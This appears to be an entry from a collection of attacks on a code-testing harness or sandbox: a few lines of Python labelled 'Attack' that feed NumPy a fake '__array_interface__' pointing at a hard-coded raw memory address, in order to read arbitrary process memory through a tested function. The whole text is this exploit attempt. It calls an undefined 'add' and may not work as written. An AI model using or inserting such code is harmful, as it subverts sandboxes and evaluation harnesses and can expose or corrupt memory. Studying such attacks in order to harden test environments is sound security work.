# Attack: pass a tuple whose field `__array_interface__` has NumPy read memory to a function of the tests.
# Cell: double
class Odd(tuple):
    _fields = ("__array_interface__",)


def double(a):
    return add(Odd([{"data": (140_000_000_000_000, False), "shape": (64,), "typestr": "|u1", "version": 3}]), 0)
